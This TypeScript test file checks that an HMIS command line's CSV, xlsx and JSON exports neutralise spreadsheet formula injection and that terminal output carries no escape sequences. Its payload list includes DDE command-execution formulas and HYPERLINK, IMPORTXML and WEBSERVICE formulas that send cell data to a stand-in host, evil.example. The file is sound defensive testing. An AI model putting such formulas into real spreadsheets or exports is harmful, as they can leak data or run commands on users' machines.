import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvChunks } from '../../functions/formats/csv.ts';
import type { AnswerColumn } from '../../shared/column.ts';
import { exportZip } from '../export.ts';
import { cellsOf, partsOf, xlsxOf } from '../functions/formats/open-xlsx.ts';
import { hmis } from '../infra/local/cli/terminal.ts';
import { startService, type TestService } from '../service.ts';
import { seeded } from './seeded.ts';

/** Formulas in names, organizations, projects and staff, through the files that the command line writes. */

const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1',
  "'=1+1",
  '"=1+1"',
  '","=1+1',
  '",\r\n=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '%0A=1+1',
  '{=1+1}',
  '=-1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=1+1\u0000',
  '==',
  '=',
  '-',
  '--',
  '+',
  '@',
  '_x003D_1+1',
  '&#61;1+1',
  '<f>1+1</f>',
  '</t></si></sst>=1+1',
  ']]><f>1</f>',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
];

let service: TestService;
let folder = '';
let token = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hmis-exports-'));
  service = await startService({
    zip: exportZip({
      Organization: [{ OrganizationName: '=1+1' }],
      Project: [{ ProjectName: '@SUM(1,1)' }],
      User: [{ UserFirstName: '+1', UserLastName: '|calc' }],
      Client: FORMULAS.map((name, n) => ({
        PersonalID: `=P${n}`,
        FirstName: name,
        MiddleName: name,
        LastName: name,
        SSN: '',
      })),
      Enrollment: FORMULAS.map((_, n) => ({ EnrollmentID: `-E${n}`, PersonalID: `=P${n}`, HouseholdID: `@H${n}` })),
    }),
  });
  token = await service.token('admin');
});
afterAll(async () => {
  await service.close();
  await rm(folder, { recursive: true });
});

async function written(format: string): Promise<Buffer> {
  const out = join(folder, `list.${format}`);
  const args = [
    'report',
    'active-clients',
    '--from',
    '2025-01-01',
    '--to',
    '2026-01-28',
    '--hidePii',
    'false',
    '--reason',
    'dataQuality',
    '--out',
    out,
  ];
  const { code, err } = await hmis(args, { url: service.url, token });
  expect({ code, err }).toMatchObject({ code: 0 });
  return readFile(out);
}

const withoutApostrophes = (text: string) => text.replaceAll("'", '');

describe('a name that is a formula', () => {
  it('is a text in the CSV file that the command line writes', async () => {
    const rows: string[][] = parse(await written('csv'), { bom: true });
    expect(rows).toHaveLength(FORMULAS.length + 1);
    const last = rows.slice(1).map((row) => row[3] ?? '');
    // Apostrophes are all that is added: nobody's name is changed otherwise.
    expect(last.map(withoutApostrophes).toSorted()).toEqual(FORMULAS.map(withoutApostrophes).toSorted());
    for (const cell of rows.flat()) {
      if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }
  });

  it('is a text in the xlsx file that the command line writes, and no cell of it is a formula', async () => {
    const parts = await partsOf(await written('xlsx'));
    for (const [name, xml] of parts) {
      expect(xml, name).not.toMatch(
        /<f[ >/]|<is>|t="str"|<ddeLink|<externalLink|<hyperlink|<definedName|<!DOCTYPE|<!ENTITY/,
      );
    }
    const cells = cellsOf(parts, 1);
    const last = FORMULAS.map((_, n) => cells.get(`D${n + 2}`));
    expect(last.map((cell) => cell?.value).toSorted()).toEqual(FORMULAS.toSorted());
  });

  it('is a text in the JSON file, as it is', async () => {
    const { rows } = JSON.parse(String(await written('json'))) as { rows: string[][] };
    expect(rows.map((row) => row[3]).toSorted()).toEqual(FORMULAS.toSorted());
  });
});

describe('any text', () => {
  const column = (type: AnswerColumn['type']): AnswerColumn => ({ key: 'x', header: 'x', type, pii: false });
  const columns = [column('text'), column('date'), column('number'), column('text')];
  const hostile = fc
    .array(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '"',
        "'",
        ',',
        ';',
        '\r',
        '\n',
        '\t',
        ' ',
        '1',
        'A',
        '|',
        '\u0000',
        '＝',
        '\ud800',
        '\ufeff',
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join(''));

  it('in a cell of CSV, also one that should be a date or a number, stays in its cell and begins no formula', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile, hostile, hostile), { minLength: 1, maxLength: 3 }), (rows) => {
        const text = [...csvChunks({ columns, rows })].join('');
        const read: string[][] = parse(Buffer.from(text), { bom: true, relax_column_count: false });
        expect(read).toHaveLength(rows.length + 1);
        for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(read.slice(1).map((row) => row.map(withoutApostrophes))).toEqual(
          rows.map((row) => row.map((cell) => withoutApostrophes(cell.toWellFormed()))),
        );
      }),
      seeded(300),
    );
  });

  it.each([';', '\t'])('begins no formula where a spreadsheet takes %j for the end of a cell', (delimiter) => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constant('P1'), hostile), { minLength: 1, maxLength: 3 }), (rows) => {
        const text = [...csvChunks({ columns: columns.slice(2), rows })].join('');
        // A quote inside a cell is a plain sign to it, and a line ends where it ends.
        const options = {
          bom: true,
          delimiter,
          relax_quotes: true,
          relax_column_count: true,
          skip_records_with_error: true,
        };
        for (const cell of (parse(text, options) as string[][]).flat()) {
          expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/);
        }
      }),
      seeded(300),
    );
  });

  it('in a cell of xlsx is a shared text, and the parts stay well formed', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 20 }), hostile, async (texts, name) => {
        const rows = texts.map((text) => [text, text, null, text]);
        const table = { columns, rows };
        const parts = await partsOf(
          await xlsxOf({ title: name, sheets: [{ name: name || 'x', tableName: 'T', table }], notes: [name] }),
        );
        expect([...parts.values()].join('')).not.toMatch(/<f[ >/]/);
        const cells = cellsOf(parts, 1);
        for (const [n, text] of texts.entries()) expect(cells.get(`A${n + 2}`)?.value ?? '').toBe(text.toWellFormed());
      }),
      seeded(20),
    );
  });
});

describe('a name with a terminal’s commands in it', () => {
  const ESCAPES = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e';
  it('does nothing to the terminal that lists projects, imports or refuses', async () => {
    const hostile = await startService({
      zip: exportZip({
        Project: [{ ProjectName: `A${ESCAPES}` }],
        Organization: [{ OrganizationName: ESCAPES }],
        User: [{ UserLastName: ESCAPES }],
      }),
    });
    const zip = join(folder, 'escapes.zip');
    const bytes = exportZip(
      { Export: [{ ExportDate: '2026-02-05', SoftwareName: ESCAPES }] },
      { more: [{ name: `x${ESCAPES}.txt`, data: 'x' }] },
    );
    await writeFile(zip, bytes);
    const outputs: string[] = [];
    for (const args of [
      ['catalog'],
      ['import', zip],
      ['snapshots'],
      ['users'],
      ['report', 'active-clients', '--format', 'csv', '--out', join(folder, 'e.csv')],
      ['report', ESCAPES],
      [ESCAPES],
      ['rollback', ESCAPES],
    ]) {
      const { out, err } = await hmis(args, { url: hostile.url, token: await hostile.token('admin') });
      outputs.push(out, err);
    }
    await hostile.close();
    for (const text of outputs) expect(text.replaceAll('\n', '')).not.toMatch(/\p{Cc}|[\u202a-\u202e]/u);
  });
});
